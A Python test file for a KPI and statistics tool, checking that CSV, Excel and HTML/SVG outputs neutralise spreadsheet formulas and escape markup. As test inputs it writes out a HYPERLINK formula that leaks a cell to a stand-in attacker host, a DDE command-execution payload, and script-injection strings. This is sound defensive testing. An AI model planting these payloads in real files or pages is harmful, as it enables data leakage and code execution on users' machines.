"""Issue 14 items 2 and 7: what ebpm writes never carries a live formula or markup from the
input — CSV cells neutralised, xlsx text kept as text, report text escaped."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import polars as pl
import pytest

from ebpm import paths
from ebpm.cli import main
from ebpm.csvsafe import neutralize
from ebpm.warehouse import build

FORMULA = '=HYPERLINK("http://attacker.invalid/?"&A1,"詳細")'
MARKUP = "<script>alert('x')</script><img src=x onerror=alert(1)>"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """KPI data whose K05 name is a formula and K06 name and notes are markup."""
    root = tmp_path_factory.mktemp("hostile")
    raw = root / "raw"
    shutil.copytree(paths.RAW / "kpi", raw / "kpi")
    definitions = raw / "kpi" / "kpi_definitions.csv"
    rows = list(csv.reader(io.StringIO(definitions.read_text(encoding="utf-8"))))
    header = rows[0]
    for row in rows[1:]:
        if row[0] == "K05":
            row[header.index("name")] = FORMULA
            row[header.index("short_name")] = "@SUM(1+1)*cmd|' /C calc'!A0"
        if row[0] == "K06":
            row[header.index("name")] = MARKUP
            row[header.index("notes")] = MARKUP
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    definitions.write_text(out.getvalue(), encoding="utf-8")
    actuals = raw / "kpi" / "actuals" / "sample_fy2024_fy2025.csv"
    text = actuals.read_text(encoding="utf-8")
    lines = [  # K05 below its base: a negative progress, which must stay a number
        ",".join([*line.split(",")[:2], "900", *line.split(",")[3:]])
        if line.startswith("K05,2025,")
        else line
        for line in text.splitlines()
    ]
    actuals.write_text("\n".join(lines) + "\n", encoding="utf-8")
    build(raw, root / "ebpm.duckdb")
    return raw, root / "ebpm.duckdb"


def test_neutralize_keeps_numbers_and_the_dash_as_they_are():
    assert [neutralize(v) for v in ("-12.5", "+3", "1e5", "-", "K01")] == [
        "-12.5",
        "+3",
        "1e5",
        "-",
        "K01",
    ]
    assert [neutralize(v) for v in ("=1+1", "+A1", "-A1+1", "@SUM(A1)", "\t=1", "\r=1")] == [
        "'=1+1",
        "'+A1",
        "'-A1+1",
        "'@SUM(A1)",
        "'\t=1",
        "'\r=1",
    ]


def test_status_csv_neutralises_text_and_keeps_negative_numbers(hostile, capsys):
    code = main(["status", "--db", str(hostile[1]), "--format", "csv", "--fy", "2025"])
    out = capsys.readouterr().out
    assert code == 0
    rows = {r["指標ID"]: r for r in csv.DictReader(io.StringIO(out))}
    assert rows["K05"]["指標名"] == "'" + FORMULA
    assert float(rows["K05"]["進捗率"].rstrip("%")) < 0  # a number, not text
    assert not rows["K05"]["進捗率"].startswith("'")
    risky = [c for r in rows.values() for c in r.values() if c[:1] in ("=", "@", "+")]
    assert risky == []


def test_estat_show_csv_neutralises_labels(tmp_path, capsys):
    source = Path(__file__).parent / "fixtures" / "estat" / "long_layout.csv"
    text = source.read_text(encoding="utf-8").replace('"大船渡市"', "\"=cmd|' /C calc'!A0\"")
    hostile = tmp_path / "hostile.csv"
    hostile.write_text(text, encoding="utf-8")
    target = tmp_path / "out.csv"
    assert main(["estat", "show", str(hostile), "--format", "csv", "-o", str(target)]) == 0
    capsys.readouterr()
    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8-sig"))))
    assert rows[0]["area_label"] == "'=cmd|' /C calc'!A0"
    assert rows[3]["marker"] == "-"  # the lone dash of "no value" stays as published
    assert rows[0]["value"] == "38000.0"


def test_template_keeps_a_formula_like_name_as_text(hostile, tmp_path):
    from openpyxl import load_workbook

    from ebpm.template import KPI_LIST_SHEET, write_actuals_template

    out = write_actuals_template(tmp_path / "template.xlsx", hostile[0])
    sheet = load_workbook(out)[KPI_LIST_SHEET]
    k05 = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == "K05")
    assert k05[1].value == FORMULA
    assert k05[1].data_type == "s"  # openpyxl would store "=…" as a formula ("f")
    assert k05[1].quotePrefix
    assert k05[4].data_type == "n"  # the base value stays a number


def test_report_escapes_markup_from_names_and_notes(hostile, tmp_path):
    from ebpm.report import write_report

    result = write_report(tmp_path / "report", hostile[1], formats=("svg",))
    page = result.index.read_text(encoding="utf-8")
    assert "<script>alert" not in page
    assert "<img src=x" not in page
    assert "&lt;script&gt;alert(" in page  # shown as text in the tables
    svg = (tmp_path / "report" / "charts" / "K06.svg").read_text(encoding="utf-8")
    assert "<script" not in svg and "&lt;script&gt;" in svg  # chart titles are SVG text
    written = {p.relative_to(tmp_path / "report").as_posix() for p in result.charts}
    assert "charts/K06.svg" in written
    assert all(p.resolve().is_relative_to((tmp_path / "report").resolve()) for p in result.charts)


def test_owndata_excel_keeps_formula_like_headers_and_titles_as_text(tmp_path):
    from openpyxl import load_workbook

    from ebpm.owndata import to_excel

    table = pl.DataFrame({"=課名": ["=1+1", "総務課"], "件数": [-3, 5]})
    out = to_excel(
        table, tmp_path / "x.xlsx", source="出典：テスト", about_people=False, title="=HYPERLINK(1)"
    )
    cells = [c for row in load_workbook(out).active.iter_rows() for c in row if c.value is not None]
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    assert formulas == []
    assert [c.value for c in cells if c.data_type == "n"] == [-3, 5]  # numbers stay numbers
